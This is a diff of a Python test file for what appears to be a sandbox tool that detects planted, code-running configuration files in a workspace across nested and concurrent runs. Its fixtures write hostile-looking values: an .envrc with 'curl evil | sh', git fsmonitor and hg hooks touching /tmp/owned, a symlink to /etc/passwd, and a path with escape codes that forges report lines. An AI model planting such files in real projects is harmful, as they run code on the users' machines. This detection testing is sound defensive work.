@@ -6,6 +6,7 @@ from __future__ import annotations
 import fcntl
 import hashlib
 import os
+import re
 import shutil
 import subprocess
 import sys
@@ -55,7 +56,7 @@ def test_untouched_workspace_has_no_changes_and_ordinary_files_are_not_watched(p
     lambda p: (p / ".git/hooks/post-checkout").write_text("#!/bin/sh\n"),
     lambda p: (p / ".git/commondir").write_text("/tmp/evil\n"),
     lambda p: (p / ".git/config").write_text("[core]\n\tfsmonitor = touch /tmp/owned\n"),
-    lambda p: ((p / "src/vendor/.git").mkdir(parents=True)),
+    lambda p: ((p / "src/vendor/.git").mkdir(parents=True), (p / "src/vendor/.git/config").write_text("[core]\n")),
     lambda p: (p / "src/.git").write_text("gitdir: /tmp/evil\n"),
     lambda p: (p / ".mcp.json").symlink_to("/etc/passwd"),
     lambda p: ((p / ".hg").mkdir(), (p / ".hg/hgrc").write_text("[hooks]\npre-status = touch /tmp/owned\n")),
@@ -279,10 +280,11 @@ def test_a_planted_name_cannot_forge_a_line_of_the_report(project: Path) -> None
     reports: list[str] = []
     watch = trust.Watch(project, "t-6")
     watch.begin()
-    (project / "docs\n  (claude-bottle: nothing else changed)\x1b[2J" / ".git").mkdir(parents=True)
+    (project / "docs\n  (claude-bottle: nothing else changed)\x1b[2J").mkdir()
+    (project / "docs\n  (claude-bottle: nothing else changed)\x1b[2J" / ".envrc").write_text("x")
     assert len(watch.end(reports.append)) == 1
     (entry,) = [line for line in reports[0].splitlines() if line.startswith("  ")]
-    assert entry.startswith("  docs\\n  (claude-bottle: nothing else changed)\\x1b[2J/.git: created")
+    assert entry.startswith("  docs\\n  (claude-bottle: nothing else changed)\\x1b[2J/.envrc: created")
     with pytest.raises(ConfigError) as refused:
         trust.check(project)
     assert "\x1b" not in str(refused.value) and "docs\\n  (claude-bottle" in str(refused.value)
@@ -348,7 +350,7 @@ def test_two_runs_cannot_hide_a_planted_file_between_their_checks(project: Path)
     (project / ".envrc").write_text("curl evil | sh\n")
     reports: list[str] = []
     assert [c.path for c in second.end(reports.append)] == [".envrc"]
-    assert "before it during another run here that it started beside" in reports[0]
+    assert "before it during another run that it started beside" in reports[0]
     with pytest.raises(ConfigError, match=r"\.envrc: created"):
         trust.check(project)
 
@@ -391,6 +393,119 @@ def test_a_run_killed_beside_another_is_compared_with_the_first_one_s_start(proj
     second.communicate("go\n", timeout=30)
     with pytest.raises(ConfigError, match=r"\.envrc: created"):
         trust.check(project)
+
+
+@pytest.mark.parametrize("first, second, planted", [
+    ("", "pkg", "pkg/sub/.envrc"),  # the monorepo's run plants in the package, the package's run keeps it
+    ("pkg", "", "pkg/.envrc"),  # the package's run plants at its top, the monorepo's run keeps it
+    ("pkg", "", "pkg/sub/.vscode/tasks.json"),
+    ("", "pkg", "pkg/sub/.git/config"),
+])
+def test_runs_on_nested_workspaces_cannot_hide_a_planted_file_between_their_checks(
+        project: Path, first: str, second: str, planted: str) -> None:
+    """The same pass of a planted file between a run on a workspace and one on a folder inside it (a monorepo
+    and its package, at once): the second compares each path both watch with the first's start."""
+    (project / planted).parent.mkdir(parents=True)
+    hider, keeper = trust.Watch(project / first, "t-hider"), trust.Watch(project / second, "t-keeper")
+    hider.begin()
+    (project / planted).write_text("curl evil | sh\n")
+    keeper.begin()
+    (project / planted).unlink()
+    assert hider.end(print) == []
+    (project / planted).write_text("curl evil | sh\n")
+    reports: list[str] = []
+    seen = (project / planted).relative_to(project / second).as_posix()
+    assert seen in [c.path for c in keeper.end(reports.append)]
+    assert "another run that it started beside (on this folder, one holding it or one inside it)" in reports[0]
+    with pytest.raises(ConfigError, match=re.escape(f"{seen}: created")):
+        trust.check(project / second)
+
+
+def test_a_bare_repository_laid_out_in_a_nested_workspace_cannot_be_passed_between_checks(project: Path) -> None:
+    (project / "pkg/sub").mkdir(parents=True)
+    outer, inner = trust.Watch(project, "t-outer"), trust.Watch(project / "pkg", "t-inner")
+    bare = {"HEAD": "ref: refs/heads/main\n", "config": "[core]\n\tfsmonitor = touch /tmp/owned\n"}
+
+    def lay_out() -> None:
+        for folder in ("objects", "refs"):
+            (project / "pkg/sub" / folder).mkdir()
+        for name, text in bare.items():
+            (project / "pkg/sub" / name).write_text(text)
+
+    outer.begin()
+    lay_out()
+    inner.begin()
+    subprocess.run(["rm", "-rf", *(str(project / "pkg/sub" / name) for name in ("objects", "refs", *bare))],
+                   check=True)
+    assert outer.end(print) == []
+    lay_out()
+    assert {"sub/HEAD", "sub/config"} <= {c.path for c in inner.end(print)}
+
+
+@pytest.mark.parametrize("first_inside", [True, False])
+def test_what_only_one_of_two_nested_workspaces_watches_is_not_flagged_by_the_other(
+        project: Path, first_inside: bool) -> None:
+    """A package's .husky and .gitmodules are protected at its top and not below the monorepo's: a run on one
+    beside a run on the other takes from the other's start only what both watch, so files that stayed as they
+    were are not flagged, whichever began first. A .husky/HEAD is not a bare repository's HEAD."""
+    (project / "pkg/.husky").mkdir(parents=True)
+    for name in ("pre-commit", "HEAD", "config"):
+        (project / "pkg/.husky" / name).write_text("npm test\n")
+    (project / "pkg/.gitmodules").write_text("[submodule]\n")
+    (project / "pkg/.envrc").write_text("export A=1\n")
+    inner, outer = trust.Watch(project / "pkg", "t-inner"), trust.Watch(project, "t-outer")
+    first, second = (inner, outer) if first_inside else (outer, inner)
+    first.begin()
+    second.begin()
+    assert second.beside
+    assert second.end(print) == []
+    assert first.end(print) == []
+
+
+def test_a_package_run_beside_a_monorepo_run_whose_search_stopped_short_keeps_its_own_start_there(
+        project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A large monorepo's search stops before the package's configs: its start does not say they were not
+    there, so the package's run does not flag them."""
+    (project / "node_modules").mkdir()
+    for n in range(30):
+        (project / "node_modules" / f"m{n}").mkdir()
+    (project / "pkg/sub").mkdir(parents=True)
+    (project / "pkg/sub/.envrc").write_text("export A=1\n")
+    monkeypatch.setattr(ws, "WALK_LIMIT", 20)
+    outer = trust.Watch(project, "t-outer")
+    outer.begin()
+    monkeypatch.setattr(ws, "WALK_LIMIT", 100_000)
+    inner = trust.Watch(project / "pkg", "t-inner")
+    inner.begin()
+    assert inner.beside and inner.end(print) == []
+
+
+def test_a_run_beside_one_on_a_folder_next_to_it_begins_alone(project: Path) -> None:
+    (project / "pkg").mkdir()
+    (project / "other").mkdir()
+    first, second = trust.Watch(project / "pkg", "t-pkg"), trust.Watch(project / "other", "t-other")
+    first.begin()
+    second.begin()
+    assert not second.beside
+    assert second.end(print) == [] and first.end(print) == []
+
+
+def test_a_package_run_s_empty_git_is_neither_flagged_nor_taken_from_the_monorepo_run_s_bottle(
+        project: Path) -> None:
+    """A package without .git gets an empty read-only .git, for which the engine makes an empty folder on the
+    host: a monorepo run ending meanwhile does not flag it (git takes an empty .git for none), and a package run
+    ending while a monorepo run that began after it mounts it leaves it to that bottle."""
+    (project / "pkg").mkdir()
+    inner, outer = trust.Watch(project / "pkg", "t-inner"), trust.Watch(project, "t-outer")
+    outer.begin()
+    inner.begin()
+    (project / "pkg/.git").mkdir()  # what the engine does on the host for the package bottle's mount
+    assert outer.end(print) == []
+    late = trust.Watch(project, "t-late")
+    late.begin()  # its bottle mounts pkg/.git read-only, as a nested repository
+    assert inner.end(print) == []
+    assert (project / "pkg/.git").is_dir(), "the monorepo run's bottle is on it"
+    assert late.end(print) == []
 
 
 def test_a_change_you_approved_is_not_flagged_again_by_a_run_that_began_before_it(project: Path) -> None:
